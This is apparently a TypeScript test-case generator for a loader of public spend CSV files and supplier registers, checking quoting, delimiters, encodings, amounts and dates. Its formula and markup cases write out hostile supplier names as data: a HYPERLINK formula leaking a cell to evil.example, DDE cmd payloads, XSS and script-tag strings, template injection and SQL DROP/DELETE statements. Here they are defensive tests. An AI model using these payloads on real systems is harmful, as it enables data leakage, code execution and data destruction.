      const text = csvText(plain(rows)).replace(rows[2]!.supplier, `"${rows[2]!.supplier}"x`).replace(`,${rows[3]!.supplier},`, `,"${rows[3]!.supplier}",`);
      return refusedSpend("quote-text-after-closing-quote-mid", text, ["quote"]);
    } },
  spend("quote-inside-unquoted-cell", "quotes", "a quote inside an unquoted cell (Acme \"Best\" Ltd): read literally", ([a, ...rest]) =>
    [heading(), { text: `${dmy(a!.date)},${a!.type},Acme "Best" Ltd,${a!.transaction},${decimal(a!.pence)}`, fate: { pence: a!.pence, loaded: true, date: a!.date, supplier: "Acme \"Best\" Ltd" } }, ...rest.map((c) => good(c))]),
  spend("quote-escaped-quotes", "quotes", "escaped quotes in a quoted cell (\"Sam \"\"The Van\"\" Hire\")", ([a, ...rest]) =>
    [heading(), good(a!, { supplier: "Sam \"The Van\" Hire" }, { supplier: "Sam \"The Van\" Hire" }), ...rest.map((c) => good(c))]),
  spend("quote-newline-in-cell", "quotes", "a quoted supplier holding a line break: one record, the rows after it numbered by record", ([a, ...rest]) =>
    [heading(), good(a!, { supplier: "Newline Trading\nLtd" }, { supplier: "Newline Trading\nLtd" }), ...rest.map((c) => good(c))]),
  spend("quote-crlf-and-delimiter-in-cell", "quotes", "a quoted cell holding a comma and CRLF", ([a, ...rest]) =>
    [heading(), good(a!, { type: "Cleaning,\r\nwindows" }, { expenseType: "Cleaning,\r\nwindows" }), ...rest.map((c) => good(c))]),
  spend("quote-space-after-closing-quote", "quotes", "a space between a closing quote and the delimiter (\"Acme\" ,)", ([a, ...rest]) =>
    [heading(), { text: `${dmy(a!.date)},${a!.type},"Spacey Quote Ltd" ,${a!.transaction},${decimal(a!.pence)}`, fate: { pence: a!.pence, loaded: true, date: a!.date, supplier: "Spacey Quote Ltd" } }, ...rest.map((c) => good(c))]),
  spend("quote-every-cell-quoted", "quotes", "every cell quoted, empty ones too", (rows) => [heading(), ...rows.map((c) => ({ ...good(c, { transaction: "" }), text: cellsOf(c).map((cell, i) => `"${i === AT.transaction ? "" : cell}"`).join(",") }))]),
];

const DELIMITERS: CaseSpec[] = [
  spend("delimiter-semicolon-rows-in-comma-file", "delimiters", "a comma file with two rows written with semicolons (one cell each: not spend)", ([a, b, ...rest]) =>
    [heading(), ...rest.slice(0, 2).map((c) => good(c)), rawQuarantined(cellsOf(a!).join(";"), a!.pence, [NOT_SPEND]), rawQuarantined(cellsOf(b!).join(";"), b!.pence, [NOT_SPEND]), ...rest.slice(2).map((c) => good(c))], { count: 8 }),
  spend("delimiter-tab-rows-in-comma-file", "delimiters", "a comma file with a row written with tabs", ([a, ...rest]) =>
    [heading(), ...rest.slice(0, 3).map((c) => good(c)), rawQuarantined(cellsOf(a!).join("\t"), a!.pence, [NOT_SPEND]), ...rest.slice(3).map((c) => good(c))], { count: 7 }),
  spend("delimiter-comma-row-in-semicolon-file", "delimiters", "a semicolon file with a row written with commas", ([a, ...rest]) =>
    [heading(), ...rest.slice(0, 3).map((c) => good(c)), rawQuarantined(cellsOf(a!).join(","), a!.pence, [NOT_SPEND]), ...rest.slice(3).map((c) => good(c))], { count: 7, delimiter: ";" }),
  spend("delimiter-comma-rows-in-tab-file", "delimiters", "a tab file with two rows written with commas", ([a, b, ...rest]) =>
    [heading(), ...rest.slice(0, 3).map((c) => good(c)), rawQuarantined(cellsOf(a!).join(","), a!.pence, [NOT_SPEND]), rawQuarantined(cellsOf(b!).join(","), b!.pence, [NOT_SPEND]), ...rest.slice(3).map((c) => good(c))], { count: 8, delimiter: "\t" }),
  spend("delimiter-semicolon-row-with-comma-amount", "delimiters", "a comma file with a semicolon row whose amount is £1,234.56 (split in two by the comma)", ([a, ...rest]) =>
    [heading(), ...rest.slice(0, 3).map((c) => good(c)), rawQuarantined([...cellsOf(a!).slice(0, 4), "£1,234.56"].join(";"), 123456, [NOT_A_DATE]), ...rest.slice(3).map((c) => good(c))], { count: 7 }),
  spend("delimiter-semicolon-pound-thousands", "delimiters", "a semicolon file whose amounts are £1,234.56 (commas inside cells, unquoted)", (rows) =>
    [{ text: HEADING.join(";") }, ...rows.map((c) => ({ ...good(c), text: withCells(cellsOf(c), { amount: `£${withThousands(decimal(c.pence))}` }).join(";") }))], { count: 8 }),
  spend("delimiter-pipe", "delimiters", "a pipe-delimited file", (rows) => plain(rows), { delimiter: "|" }),
  spend("delimiter-half-and-half", "delimiters", "a comma file whose second half is written with semicolons", (rows) =>
    [heading(), ...rows.slice(0, 6).map((c) => good(c)), ...rows.slice(6).map((c) => rawQuarantined(cellsOf(c).join(";"), c.pence, [NOT_SPEND]))], { count: 10 }),
  spend("delimiter-semicolon-heading-mid-comma-file", "delimiters", "a comma file with a semicolon heading row pasted mid-file (a note line)", (rows) =>
    [heading(), ...rows.slice(0, 3).map((c) => good(c)), rawQuarantined(HEADING.join(";"), null, [NOT_SPEND]), ...rows.slice(3).map((c) => good(c))]),
  spend("delimiter-mixed-cr-line-endings", "delimiters", "old Mac line endings (CR only)", (rows) => plain(rows), { newline: "\r" }),
];

const HEADINGS: CaseSpec[] = [
  spend("heading-duplicate-amount-same-values", "headings", "two Amount columns holding the same values", (rows) =>
    [heading([...HEADING, "Amount"]), ...rows.map((c) => ({ ...good(c), cells: [...cellsOf(c), decimal(c.pence)] }))]),
  spend("heading-duplicate-supplier-second-blank", "headings", "two Supplier columns, the second blank: the first is read", (rows) =>
    [heading([...HEADING, "Supplier"]), ...rows.map((c) => ({ ...good(c), cells: [...cellsOf(c), ""] }))]),
  spend("heading-duplicate-date-first-junk", "headings", "two Date columns, the first holding text: the first Date column is the one read, so every row is quarantined", (rows) =>
    [heading(["Date", ...HEADING]), ...rows.map((c) => ({ cells: ["see notes", ...cellsOf(c)], fate: { pence: c.pence, loaded: false, reasons: [NOT_A_DATE] } }))]),
  spend("heading-amount-and-net-amount", "headings", "both Net Amount and Amount columns: Amount (first in the synonym table) is read", (rows) =>
    [heading(["Date", "Expense Type", "Supplier", "Transaction Number", "Net Amount", "Amount"]), ...rows.map((c) => ({ ...good(c), cells: [...cellsOf(c).slice(0, 4), decimal(Math.round(c.pence / 1.2)), decimal(c.pence)] }))]),
  spend("heading-optional-heading-empty", "headings", "an empty heading over the expense type column", (rows) =>
    [heading(["Date", "", "Supplier", "Transaction Number", "Amount"]), ...rows.map((c) => good(c))]),
  spend("heading-all-optional-empty", "headings", "empty headings over every optional column", (rows) =>
    [heading(["Date", "", "Supplier", "", "Amount"]), ...rows.map((c) => good(c))]),
  spend("heading-amount-heading-empty", "headings", "the amount column has values but no heading (read by its values: amounts with pence)", (rows) =>
    [heading(["Date", "Expense Type", "Supplier", "Transaction Number", ""]), ...rows.map((c) => good(c))], { count: 4 }),
  { id: "heading-all-empty", category: "headings", what: "a heading row of empty cells", make: (random) =>
    refusedSpend("heading-all-empty", csvText([blank(5), ...cleanRows(random, 4).map((c) => good(c))]), ["heading"]) },
  { id: "heading-supplier-as-name", category: "headings", what: "the supplier column headed \"Name\" (not a spend heading: refused, naming what is needed)", make: (random) =>
    refusedSpend("heading-supplier-as-name", csvText([heading(["Date", "Expense Type", "Name", "Transaction Number", "Amount"]), ...cleanRows(random, 4).map((c) => good(c))]), ["supplier"]) },
  spend("heading-markup", "headings", "headings wrapped in HTML (<b>Amount</b>): read by the words they hold", (rows) =>
    [heading(HEADING.map((h) => `<b>${h}</b>`)), ...rows.map((c) => good(c))], { count: 4 }),
  spend("heading-nbsp-and-case", "headings", "headings in capitals with non-breaking spaces (AMOUNT\u00a0(£))", (rows) =>
    [heading(["DATE", "EXPENSE\u00a0TYPE", "SUPPLIER", "TRANSACTION\u00a0NUMBER", "AMOUNT\u00a0(£)"]), ...rows.map((c) => good(c))]),
  spend("heading-line-break-in-heading", "headings", "a quoted heading holding a line break (\"Payment\\nDate\")", (rows) =>
    [heading(["Payment\nDate", ...HEADING.slice(1)]), ...rows.map((c) => good(c))]),
  spend("heading-below-blank-and-title", "headings", "three blank lines and a title above the heading row", (rows) => [blank(), blank(5), blank(), title("Spend over £500"), ...plain(rows)]),
  spend("heading-formula-text", "headings", "a heading written as a formula string (=\"Amount\")", (rows) =>
    [heading([...HEADING.slice(0, 4), "=\"Amount\""]), ...rows.map((c) => good(c))]),
];

const NUL_BYTES: CaseSpec[] = [
  { id: "nul-in-supplier", category: "nul-bytes", what: "one NUL byte inside a supplier name", make: (random) => {
    const rows = cleanRows(random, 5);
    return refusedSpend("nul-in-supplier", csvText(plain(rows)).replace(rows[1]!.supplier, rows[1]!.supplier.replace(" ", "\u0000")), ["NUL"]);
  } },
  { id: "nul-at-end", category: "nul-bytes", what: "a NUL byte at the very end", make: (random) => refusedSpend("nul-at-end", `${csvText(plain(cleanRows(random, 5)))}\u0000`, ["NUL"]) },
  { id: "nul-in-heading", category: "nul-bytes", what: "a NUL byte in the heading row", make: (random) => refusedSpend("nul-in-heading", csvText(plain(cleanRows(random, 5))).replace("Supplier", "Supp\u0000lier"), ["NUL"]) },
  { id: "nul-padding-after-data", category: "nul-bytes", what: "1 KB of NUL padding after the rows (a writer that crashed)", make: (random) =>
    refusedSpend("nul-padding-after-data", Buffer.concat([Buffer.from(csvText(plain(cleanRows(random, 5)))), new Uint8Array(1024)]), ["NUL"]) },
  { id: "nul-in-register", category: "nul-bytes", what: "a NUL byte in a supplier register", make: () => ({
    files: { "institution.json": institutionJson("nul-in-register"), "nul-in-register.csv": "Supplier Name,Postcode\nNul Byte\u0000 Ltd,E1 8DE\n" },
    target: "nul-in-register.csv", kind: "suppliers", expect: { outcome: "refused", messageIncludes: ["NUL"] } }) },
  { id: "nul-in-institution-json", category: "nul-bytes", what: "a NUL byte in institution.json", make: (random) => ({
    files: { "institution.json": `{"id": "bad:nul\u0000", "name": "x", "kind": "nhs-trust"`, "nul-in-institution-json.csv": csvText(plain(cleanRows(random, 3))) },
    target: "nul-in-institution-json.csv", kind: "spend", expect: { outcome: "refused", messageIncludes: ["institution.json"] } }) },
];

const ENCODINGS: CaseSpec[] = [
  spend("encoding-1252-accents", "encodings", "Windows-1252: accented supplier names (Café, Crème, Ñandú) and £ amounts", (rows) =>
    [heading(), ...rows.map((c, i) => { const name = ["Café Bow Ltd", "Crème Laundry Ltd", "Ñandú Catering CIC"][i % 3]!; return good(c, { supplier: name, amount: `£${decimal(c.pence)}` }, { supplier: name }); })], { encoding: "windows-1252" }),
  spend("encoding-1252-smart-quotes", "encodings", "Windows-1252: curly quotes and an en dash in names (bytes 0x91–0x96)", (rows) =>
    [heading(), ...rows.map((c, i) => { const name = [`O’Brien’s Bakery Ltd`, `“Best” Cleaning – Poplar Ltd`][i % 2]!; return good(c, { supplier: name }, { supplier: name }); })],
    { encoding: "windows-1252" }),
  spend("encoding-1252-euro", "encodings", "Windows-1252: a euro sign (0x80) and an em dash in names", (rows) =>
    [heading(), ...rows.map((c) => good(c, { supplier: "€uro Supplies — Luton Ltd" }, { supplier: "€uro Supplies — Luton Ltd" }))], { encoding: "windows-1252" }),
  spend("encoding-1252-undefined-bytes", "encodings", "bytes Windows-1252 leaves undefined (0x81, 0x8D) in a name: kept as they decode", (rows) =>
    [heading(), ...rows.map((c) => good(c, { supplier: "Odd\u0081Byte\u008d Ltd" }, { supplier: "Odd\u0081Byte\u008d Ltd" }))], { encoding: "windows-1252" }),
  { id: "encoding-utf8-with-stray-1252-byte", category: "encodings", what: "UTF-8 names and one stray Windows-1252 byte: the whole file is read as Windows-1252, as documented", make: (random) => {
    const rows = cleanRows(random, 5);
    const bytes = Buffer.concat([Buffer.from(csvText([heading(), ...rows.map((c, i) => good(c, { supplier: i === 0 ? "Café Utf Ltd" : c.supplier }))]), "utf-8"),
      Buffer.from("01/04/2024,Catering,Stray\xe9 Byte Ltd,T999999,1.00\n", "latin1")]);
    return {
      files: { "institution.json": institutionJson("encoding-utf8-with-stray-1252-byte"), "encoding-utf8-with-stray-1252-byte.csv": bytes },
      target: "encoding-utf8-with-stray-1252-byte.csv", kind: "spend",
      expect: { outcome: "loaded", rows: [
        // "é" written as UTF-8 (C3 A9) reads as "Ã©" once the file is Windows-1252; the stray byte E9 reads as "é".
        ...rows.map((c, i): ExpectedRow => ({ sheet: null, row: i + 2, pence: c.pence, loaded: true, date: c.date, ...(i === 0 ? { supplier: "CafÃ© Utf Ltd" } : {}) })),
        { sheet: null, row: rows.length + 2, pence: 100, loaded: true, date: "2024-04-01", supplier: "Strayé Byte Ltd" },
      ] },
    };
  } },
  ...(["utf-16le-bom", "utf-16be-bom", "utf-16le", "utf-32le"] as const).map((encoding): CaseSpec => ({
    id: `encoding-${encoding}`, category: "encodings", what: `${encoding.toUpperCase()} text (refused, with advice to save as CSV UTF-8)`,
    make: (random) => refusedSpend(`encoding-${encoding}`, encode(csvText(plain(cleanRows(random, 4))), encoding), ["CSV UTF-8"]),
  })),
  spend("encoding-double-bom", "encodings", "two UTF-8 byte-order marks", (rows) => [{ cells: [`\uFEFF${HEADING[0]}`, ...HEADING.slice(1)] }, ...rows.map((c) => good(c))], { encoding: "utf-8-bom" }),
  { id: "encoding-invalid-utf8-overlong", category: "encodings", what: "an invalid UTF-8 sequence (C0 80): read as Windows-1252", make: (random) => {
    const rows = cleanRows(random, 4);
    const bytes = Buffer.concat([Buffer.from(csvText(plain(rows))), Buffer.from("02/04/2024,Catering,Over", "latin1"), Buffer.from([0xc0, 0x80]), Buffer.from("long Ltd,T1,5.00\n")]);
    return { files: { "institution.json": institutionJson("encoding-invalid-utf8-overlong"), "encoding-invalid-utf8-overlong.csv": bytes }, target: "encoding-invalid-utf8-overlong.csv", kind: "spend",
      expect: { outcome: "loaded", rows: [...rowsOf([{ name: null, lines: plain(rows) }]), { sheet: null, row: rows.length + 2, pence: 500, loaded: true, date: "2024-04-02", supplier: "OverÀ€long Ltd" }] } };
  } },
  spend("encoding-utf8-emoji-cjk", "encodings", "UTF-8 names with emoji, CJK and combining accents", (rows) =>
    [heading(), ...rows.map((c, i) => { const name = ["🍕 Pizza Bow Ltd", "東京 Trading Ltd", "Cafe\u0301 Combining Ltd"][i % 3]!; return good(c, { supplier: name }, { supplier: name }); })]),
  spend("encoding-non-latin-name", "encodings", "supplier names in Greek and Chinese script only (names: loaded)", (rows) =>
    [heading(), ...rows.map((c, i) => (i < 2 ? name(c, ["Ελληνικά Τρόφιμα", "东方贸易"][i]!) : good(c)))]),
  spend("encoding-bidi-and-zero-width", "encodings", "names with a right-to-left override and zero-width characters (stored as given)", (rows) =>
    [heading(), ...rows.map((c, i) => { const name = ["Evil\u202eDTL\u202c Ltd", "Zero\u200bWidth\u200d Ltd"][i % 2]!; return good(c, { supplier: name }, { supplier: name }); })]),
  spend("encoding-utf8-pound-amounts", "encodings", "UTF-8 £ amounts (bytes C2 A3)", (rows) => [heading(), ...rows.map((c) => good(c, { amount: `£${decimal(c.pence)}` }))]),
  { id: "encoding-utf16-register", category: "encodings", what: "a supplier register in UTF-16 (refused)", make: () => ({
    files: { "institution.json": institutionJson("encoding-utf16-register"), "encoding-utf16-register.csv": encode("Supplier Name,Postcode\nWide Ltd,E1 8DE\n", "utf-16le-bom") },
    target: "encoding-utf16-register.csv", kind: "suppliers", expect: { outcome: "refused", messageIncludes: ["CSV UTF-8"] } }) },
];
/** Amount forms: [slug, cell, pence the publisher meant, or null when the cell is not an amount]. */
const AMOUNT_FORMS: [string, string, number | null][] = [
  ["pound-thousands", "£1,234.56", 123456], ["minus-pound", "-£1,234.56", -123456], ["pound-minus", "£-1,234.56", -123456],
  ["brackets", "(1,234.56)", -123456], ["brackets-pound", "(£1,234.56)", -123456], ["cr-suffix", "1234.56 CR", -123456], ["cr-lower-no-space", "1234.56cr", -123456],
  ["plus-sign", "+1234.56", 123456], ["padded", "  1234.56  ", 123456], ["space-thousands", "1 234.56", 123456], ["leading-point", ".5", 50],
  ["whole-pounds", "1234", 123400], ["comma-whole-pounds", "1,234", 123400], ["one-decimal", "1234.5", 123450], ["three-decimals", "1234.567", 123457],
  ["tenth-of-penny", "0.001", 0], ["half-penny-0.005", "0.005", 1], ["minus-space", "- 5.00", -500], ["pound-space", "£ 5.00", 500],
  ["empty", "", null], ["space", " ", null], ["tbc", "TBC", null], ["n-a", "N/A", null], ["dash", "-", null], ["em-dash", "—", null], ["pound-only", "£", null],
  ["pound-point", "£.", null], ["point", ".", null], ["two-points", "1.2.3", null], ["bad-grouping", "12,34,5", null], ["comma-decimal", "1,23", null],
  ["four-digit-group", "1,2345", null], ["european", "1.234,56", null], ["european-space", "1 234,56", null], ["euro", "€100.00", null], ["dollar", "$100.00", null],
  ["usd-prefix", "USD 100", null], ["gbp-suffix", "100 GBP", null], ["pence-suffix", "100p", null], ["exponent", "1e5", null], ["exponent-negative", "1E-2", null],
  ["hex", "0x1F", null], ["infinity", "Infinity", null], ["nan", "NaN", null], ["trailing-minus", "5-", null], ["open-bracket", "(5", null], ["close-bracket", "5)", null],
  ["double-brackets", "((5))", null], ["double-minus", "--5", null], ["plus-minus", "+-5", null], ["cr-twice", "5 CR CR", null], ["cr-only", "CR", null],
  ["dr-prefix", "DR 5", null], ["unicode-minus", "\u22125.00", null], ["en-dash-minus", "\u20135.00", null], ["trailing-point", "5.", null], ["words", "ten pounds", null],
  ["fraction", "1/2", null], ["percent", "5%", null], ["formula", "=1+1", null], ["excel-error", "#VALUE!", null], ["too-large", "99999999999999999999", null],
  ["date-in-amount", "01/04/2024", null], ["brackets-and-cr", "(5) CR", null],
];

/** Half pennies the loader must round away from zero; float arithmetic rounds some of them down. */
const HALF_PENNY_FORMS: [string, string, number][] = [["0.285", "0.285", 29], ["1234.565", "1234.565", 123457], ["minus-0.285", "-0.285", -29], ["1.005", "1.005", 101]];

const amountCase = (slug: string, text: string, pence: number | null, knownBug?: string): CaseSpec =>
  spend(`amount-${slug}`, "amounts", `amount written ${JSON.stringify(text)}: ${pence === null ? "not an amount (quarantined)" : `${pence} pence`}`, ([a, b, c, ...rest]) =>
    [heading(), good(a!), good(b!), pence === null ? badAmount(c!, text) : good({ ...c!, pence }, { amount: text }), ...rest.map((r) => good(r))], knownBug ? { knownBug } : {});

const AMOUNTS: CaseSpec[] = [
  ...AMOUNT_FORMS.map(([slug, text, pence]) => amountCase(slug, text, pence)),
  ...HALF_PENNY_FORMS.map(([slug, text, pence]) => amountCase(`half-penny-${slug}`, text, pence)),
  spend("amount-every-bad-form-in-one-file", "amounts", "one file with a dozen bad amounts among good rows, every bad cell kept", (rows) =>
    [heading(), ...rows.map((c, i) => (i % 2 ? badAmount(c, ["TBC", "1.2.3", "€5", "5-", "N/A", "=1+1"][(i >> 1) % 6]!) : good(c)))], { count: 12 }),
  spend("amount-near-safe-limit", "amounts", "amounts near £90 trillion whose total passes 2^53 pence: the report's total must equal the sum of the lines", () => {
    const c = (pence: number, supplier: string): Clean => ({ date: "2024-04-02", type: "Building works", supplier, transaction: "T1", pence });
    return [heading(), good(c(4_503_599_627_370_497, "Large Sum One Ltd")), good(c(4_503_599_627_370_497, "Large Sum Two Ltd")), good(c(1, "Penny Ltd"))];
  }),
  spend("amount-huge-total-refused-clearly", "amounts", "two amounts of £90 trillion each (a total DECIMAL(18,2) cannot hold): loaded, or refused in words", () => {
    const c = (supplier: string): Clean => ({ date: "2024-04-03", type: "Building works", supplier, transaction: "T2", pence: 8_999_999_999_999_999 });
    return [heading(), good(c("Huge One Ltd")), good(c("Huge Two Ltd"))];
  }, { orRefused: ["amount"] }),
];

const NEGATIVE_AND_ZERO: CaseSpec[] = [
  ...([["zero", "0", 0], ["zero-pence", "0.00", 0], ["minus-zero", "-0.00", 0], ["pound-zero", "£0.00", 0], ["brackets-zero", "(0.00)", 0], ["zero-cr", "0.00 CR", 0], ["minus-penny", "-0.01", -1], ["minus-pound-penny", "-£0.01", -1]] as const)
    .map(([slug, text, pence]) => spend(`negative-zero-${slug}`, "negative-and-zero", `amount ${JSON.stringify(text)}: ${pence} pence, loaded`, ([a, ...rest]) =>
      [heading(), good({ ...a!, pence }, { amount: text }), ...rest.map((r) => good(r))])),
  spend("negative-zero-all-credits", "negative-and-zero", "a file of credit notes only (every amount negative)", (rows) => [heading(), ...rows.map((c) => good({ ...c, pence: -c.pence }, { amount: decimal(-c.pence) }))]),
  spend("negative-zero-all-zero", "negative-and-zero", "a file whose every amount is zero", (rows) => [heading(), ...rows.map((c) => good({ ...c, pence: 0 }, { amount: "0.00" }))]),
  spend("negative-zero-reversal-nets-to-zero", "negative-and-zero", "each payment followed by its reversal: the file nets to zero", (rows) =>
    [heading(), ...rows.flatMap((c) => [good(c), good({ ...c, pence: -c.pence }, { amount: `(${decimal(c.pence)})` })])], { count: 4 }),
];

/** Date forms: [slug, cell, ISO date the publisher meant, or null when the cell is not a date]. */
const DATE_FORMS: [string, string, string | null][] = [
  ["empty", "", null], ["tbc", "TBC", null], ["soon", "soon", null], ["feb-31", "31/02/2024", null], ["feb-30", "30/02/2024", null], ["feb-29-not-leap", "29/02/2023", null],
  ["apr-31", "31/04/2024", null], ["day-32", "32/01/2024", null], ["day-0", "00/01/2024", null], ["month-0", "01/00/2024", null], ["month-13", "01/13/2024", null],
  ["iso-month-13", "2024-13-01", null], ["iso-month-0", "2024-00-10", null], ["iso-feb-30", "2024-02-30", null], ["year-first-slashes", "2024/04/01", null],
  ["dashes-day-first", "04-01-2024", null], ["ordinal", "1st April 2024", null], ["us-words", "April 1, 2024", null], ["bad-month-name", "Foo 2024", null],
  ["year-only", "2024", null], ["time-only", "12:00", null], ["serial-too-small", "19999", null], ["serial-too-large", "80001", null], ["serial-negative", "-45000", null],
  ["century-not-leap", "29/02/2100", null], ["year-1", "01/01/0001", null], ["month-day-missing", "2024-4", null], ["day-month-only", "1/4", null],
  ["formula", "=DATE(2024,4,1)", null], ["excel-error", "#N/A", null], ["letter-o", "O1/04/2024", null], ["trailing-text", "2024-04-01 approx", null],
  ["leap-day", "29/02/2024", "2024-02-29"], ["short-year", "1/4/24", "2024-04-01"], ["dots", "01.04.2024", "2024-04-01"], ["iso-timestamp", "2024-04-01T10:00:00Z", "2024-04-01"],
  ["serial", "45383", "2024-04-01"], ["month-abbrev-year", "Sep-24", "2024-09-01"], ["sept", "1 Sept 2024", "2024-09-01"], ["upper-month", "01-APR-2024", "2024-04-01"],
  ["future-2099", "01/01/2099", "2099-01-01"], ["future-9999", "31/12/9999", "9999-12-31"], ["old-1900", "01/01/1900", "1900-01-01"],
];

const DATES: CaseSpec[] = DATE_FORMS.map(([slug, text, iso]) =>
  spend(`date-${slug}`, "dates", `date written ${JSON.stringify(text)}: ${iso === null ? "not a date (quarantined)" : iso}${iso && iso > "2030" ? " (a future date: loaded as written)" : ""}`, ([a, b, c, ...rest]) =>
    [heading(), good(a!), good(b!), iso === null ? badDate(c!, text) : good({ ...c!, date: iso }, { date: text }), ...rest.map((r) => good(r))]));

const DUPLICATES: CaseSpec[] = [
  spend("duplicates-identical-rows", "duplicates", "the same row 50 times (all spend: nothing is de-duplicated)", ([a]) => [heading(), ...Array.from({ length: 50 }, () => good(a!))]),
  spend("duplicates-identical-bad-rows", "duplicates", "the same bad row 20 times (each quarantined)", ([a, b]) => [heading(), good(b!), ...Array.from({ length: 20 }, () => badAmount(a!, "TBC"))]),
  spend("duplicates-two-blocks", "duplicates", "a file pasted twice (heading and rows): the second heading quarantined, every row loaded", (rows) =>
    [...plain(rows), { cells: HEADING, fate: { pence: null, loaded: false, reasons: [{ column: null, includes: "repeated heading row" }] } }, ...rows.map((c) => good(c))]),
];

const FORMULAS: CaseSpec[] = [
  hostileNames("formula-hyperlink-supplier", "formulas", "a supplier name that is a HYPERLINK formula: stored as text", ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for invoice\")"]),
  hostileNames("formula-dde-supplier", "formulas", "DDE payloads as supplier names (=cmd|…, @SUM…, +…, -…): stored as text", ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C notepad'!A0"]),
  spend("formula-amount", "formulas", "formulas in amount cells (=1+1, =SUM(A1:A3)): not amounts", ([a, b, ...rest]) => [heading(), badAmount(a!, "=1+1"), badAmount(b!, "=SUM(E2:E4)"), ...rest.map((r) => good(r))]),
  spend("formula-date", "formulas", "a formula in a date cell (=DATE(2024,4,1)): not a date", ([a, ...rest]) => [heading(), badDate(a!, "=DATE(2024,4,1)"), ...rest.map((r) => good(r))]),
  spend("formula-expense-type", "formulas", "a HYPERLINK formula as the expense type: stored as text", ([a, ...rest]) =>
    [heading(), good(a!, { type: "=HYPERLINK(\"http://evil.example\",\"IT\")" }, { expenseType: "=HYPERLINK(\"http://evil.example\",\"IT\")" }), ...rest.map((r) => good(r))]),
  spend("formula-tab-prefixed", "formulas", "a tab before a formula (an attempt to dodge escaping): cells are trimmed, the text kept", ([a, ...rest]) =>
    [heading(), good(a!, { supplier: "\t=1+2+Tab Ltd" }, { supplier: "=1+2+Tab Ltd" }), ...rest.map((r) => good(r))]),
  xlsxCase("formula-text-cell-in-workbook", "a workbook whose supplier is the text \"=HYPERLINK(…)\" (a string cell, not a formula)", (rows) => {
    const [a, ...rest] = rows as [Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), name(a, "=HYPERLINK(\"http://evil.example/x\",\"Workbook Ltd\")"), ...rest.map((r) => good(r))] }];
  }, { category: "formulas" }),
  xlsxCase("formula-supplier-no-value", "a workbook whose supplier is a formula with no saved value (no supplier: quarantined)", (rows) => {
    const [a, ...rest] = rows as [Clean, ...Clean[]];
    return [{ name: "Spend", lines: [heading(), quarantined(a, { supplier: { type: "Formula", value: "=CONCAT(\"A\",\"B\")" } }, [NO_SUPPLIER]), ...rest.map((r) => good(r))] }];
  }, { category: "formulas" }),
];

const MARKUP: CaseSpec[] = [
  hostileNames("markup-script-tags", "markup", "script tags as supplier names: stored as given", ["<script>alert(1)</script>", "<script src=https://evil.example/x.js></script> Ltd"]),
  hostileNames("markup-event-handlers", "markup", "HTML with event handlers as names", ["<img src=x onerror=alert(1)>", "\"><svg/onload=alert(document.domain)>", "<body onload=alert(1)> Ltd"]),
  hostileNames("markup-links-and-frames", "markup", "javascript: links and iframes as names", ["javascript:alert(1)", "<iframe src=\"https://evil.example\"></iframe> Ltd", "<a href=\"javascript:void(0)\">Click</a> Ltd"]),
  hostileNames("markup-entities-and-styles", "markup", "HTML entities and style blocks as names", ["Acme &amp; Sons <b>Ltd</b>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<style>body{display:none}</style> Ltd"]),
  hostileNames("markup-template-injection", "markup", "template and expression syntax as names", ["{{constructor.constructor('alert(1)')()}}", "${7*7} Dollar Ltd", "#{7*7} Hash Ltd", "<%= 7*7 %> Erb Ltd"]),
  hostileNames("markup-sql-injection", "markup", "SQL injection strings as names", ["'; DROP TABLE spend; --", "Robert'); DELETE FROM suppliers;-- Ltd", "1' OR '1'='1"]),
  hostileNames("markup-markdown-and-csv", "markup", "Markdown links and pipes as names", ["[Click](javascript:alert(1))", "| col | injected | table |", "**Bold** _Ltd_"]),
  spend("markup-only-punctuation", "markup", "a name of markup only (<>): no letters, so no supplier (quarantined)", ([a, ...rest]) => [heading(), quarantined(a!, { supplier: "<>" }, [NO_SUPPLIER]), ...rest.map((r) => good(r))]),
  spend("markup-in-expense-type", "markup", "HTML in the expense type and transaction number", ([a, ...rest]) =>
    [heading(), good(a!, { type: "<marquee>IT</marquee>", transaction: "<b>T1</b>" }, { expenseType: "<marquee>IT</marquee>" }), ...rest.map((r) => good(r))]),
  spend("markup-redacted-with-name", "markup", "a redacted payee that still carries a person's name: loaded as redacted, the name kept nowhere", (rows) =>
    [heading(), ...rows.map((c, i) => (i === 0 ? good(c, { supplier: "REDACTED - personal data (Mrs Jane Q Example)" }) : good(c)))], { mustNotAppear: ["Jane Q Example"] }),
  spend("markup-redacted-bad-amount", "markup", "a redacted payee on a row with a bad amount: quarantined, the name kept nowhere", ([a, ...rest]) =>
    [heading(), quarantined(a!, { supplier: "Withheld - data protection (Mr John Q Sample)", amount: "TBC" }, [NOT_AN_AMOUNT], null), ...rest.map((r) => good(r))], { mustNotAppear: ["John Q Sample"] }),
  hostileNames("markup-very-long-name", "markup", "a supplier name of 20,000 characters", [`Long ${"Name ".repeat(4000)}Ltd`]),
];

const REGISTER_HEADING = ["Supplier Name", "Postcode", "Trading Postcode", "Delivery Postcodes", "SME", "VCSE"];
const NOT_A_POSTCODE = "not a UK unit postcode";

interface RegisterRow { name: string; postcode?: string; trading?: string; delivery?: string; sme?: string; vcse?: string; problem?: Reason }
const registerLine = (row: RegisterRow): Line => ({
  cells: [row.name, row.postcode ?? "", row.trading ?? "", row.delivery ?? "", row.sme ?? "N", row.vcse ?? "N"],
  fate: { pence: null, loaded: !row.problem, ...(row.problem ? { reasons: [row.problem] } : {}) },
});

const register = (id: string, what: string, rows: RegisterRow[]): CaseSpec => ({
  id, category: "postcodes", what,
  make: () => {
    const lines = [heading(REGISTER_HEADING), ...[{ name: `Register ${id} Anchor Ltd`, postcode: "E1 8DE" }, ...rows].map(registerLine)];
    return { files: { "institution.json": institutionJson(id), [`${id}.csv`]: csvText(lines) }, target: `${id}.csv`, kind: "suppliers", expect: countsOf(lines) };
  },
});
const badPostcode = (column = "Postcode"): Reason => ({ column, includes: NOT_A_POSTCODE });

const DIRECTORY_HEADING = ["pcds", "lat", "long", "laua", "doterm"];
interface DirectoryRow { text?: string; cells?: string[]; problem?: Reason; blank?: boolean }
const directory = (id: string, what: string, rows: DirectoryRow[]): CaseSpec => ({
  id, category: "postcodes", what,
  make: () => {
    const lines: Line[] = [heading(DIRECTORY_HEADING), ...rows.map((row): Line => (row.blank ? { text: "" } : {
      ...(row.text !== undefined ? { text: row.text } : { cells: row.cells! }),
